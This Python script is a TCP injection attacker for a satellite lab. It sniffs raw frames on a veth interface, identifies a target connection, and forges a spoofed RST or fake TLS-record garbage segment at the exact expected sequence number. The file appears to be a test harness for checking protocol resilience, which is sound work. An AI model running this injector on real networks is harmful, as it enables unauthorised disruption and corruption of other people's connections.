"""An on-path attacker between the satellite link and the terminal (run in the lab's `sat` namespace
on the veth toward the terminal). It follows the hub's data on every peer connection it sees open
(READY), spots the connection a flow takes (a terminal -> hub segment of at least --min-payload
bytes to the peer port: OPEN and the client's bytes), and forges one segment from the hub at exactly
the sequence number the terminal expects next: a RST, or a few bytes of garbage where the hub's next
bytes belong. `--at open`: at once, so it arrives where STATUS belongs (the real one is a satellite
round trip away); `--at status`: after the hub's STATUS came and the connection went quiet. Prints
one JSON line with what it did. IPv4, Ethernet frames (satlab's veths).

    python peerinject.py IFACE --kind rst|garbage --at open|status [--port 7072] [--min-payload 1200]
"""

from __future__ import annotations

import argparse
import json
import socket
import struct
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Segment:
    def __init__(self, frame: bytes) -> None:
        self.frame = frame
        ihl = (frame[14] & 0x0F) * 4
        self.ip = frame[14:14 + ihl]
        tcp_at = 14 + ihl
        self.src, self.dst = socket.inet_ntoa(self.ip[12:16]), socket.inet_ntoa(self.ip[16:20])
        self.sport, self.dport, self.seq, self.ack = struct.unpack("!HHII", frame[tcp_at:tcp_at + 12])
        off = (frame[tcp_at + 12] >> 4) * 4
        self.flags = frame[tcp_at + 13]
        self.window = struct.unpack("!H", frame[tcp_at + 14:tcp_at + 16])[0]
        self.options = frame[tcp_at + 20:tcp_at + off]
        total = struct.unpack("!H", self.ip[2:4])[0]
        self.payload_len = total - ihl - off


def parse(frame: bytes) -> Segment | None:
    if len(frame) < 54 or struct.unpack("!H", frame[12:14])[0] != ETH_P_IP or frame[23] != socket.IPPROTO_TCP:
        return None
    return Segment(frame)


def forge(t: Segment, seq: int, flags: int, payload: bytes) -> bytes:
    """A segment like `t` (same addresses, ports, ack, window and options) with seq, flags, payload."""
    opts = t.options
    tcp = struct.pack("!HHIIBBHHH", t.sport, t.dport, seq, t.ack, ((20 + len(opts)) // 4) << 4, flags,
                      t.window, 0, 0) + opts + payload
    src, dst = t.ip[12:16], t.ip[16:20]
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = bytearray(t.ip[:20])
    ip[2:4] = struct.pack("!H", 20 + len(tcp))
    ip[4:6] = struct.pack("!H", 0x5151)
    ip[10:12] = b"\0\0"
    ip[10:12] = struct.pack("!H", checksum(bytes(ip)))
    return t.frame[:14] + bytes(ip) + tcp


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("iface")
    p.add_argument("--kind", choices=["rst", "garbage"], required=True)
    p.add_argument("--at", choices=["open", "status"], required=True)
    p.add_argument("--port", type=int, default=7072)
    p.add_argument("--min-payload", type=int, default=1200)
    p.add_argument("--quiet", type=float, default=0.3)
    p.add_argument("--timeout", type=float, default=60.0)
    a = p.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((a.iface, 0))
    s.settimeout(0.05)
    print(json.dumps({"ready": True}), flush=True)
    deadline = time.monotonic() + a.timeout
    hub_last: dict[int, Segment] = {}  # the hub's latest segment per terminal port (its seq, ack, timestamps)
    flow: int | None = None  # the terminal port of the connection the flow took
    answered = False  # the hub sent data on it since (STATUS)
    heard = 0.0

    def inject(t: Segment) -> None:
        seq = (t.seq + t.payload_len) & 0xFFFFFFFF
        if a.kind == "rst":
            s.send(forge(t, seq, 0x04, b""))
        else:
            # Looks like the start of a TLS record, then is not one.
            s.send(forge(t, seq, 0x18, b"\x17\x03\x03\x00\x03ZZZ"))
        print(json.dumps({"injected": a.kind, "at": a.at, "terminal_port": t.dport, "seq": seq}), flush=True)

    while time.monotonic() < deadline:
        try:
            seg = parse(s.recv(65536))
        except TimeoutError:
            seg = None
        now = time.monotonic()
        if seg is not None and seg.sport == a.port:
            hub_last[seg.dport] = seg
            if seg.dport == flow and seg.payload_len > 0:
                answered, heard = True, now
        elif seg is not None and flow is None and seg.dport == a.port and seg.payload_len >= a.min_payload:
            # OPEN and the client's bytes: this connection carries the flow.
            flow = seg.sport
            if flow in hub_last:
                if a.at == "open":
                    inject(hub_last[flow])
                    return
        if flow is not None and a.at == "status" and answered and now - heard >= a.quiet:
            inject(hub_last[flow])
            return
    print(json.dumps({"injected": None, "flow": flow, "connections_seen": len(hub_last)}), flush=True)


if __name__ == "__main__":
    main()
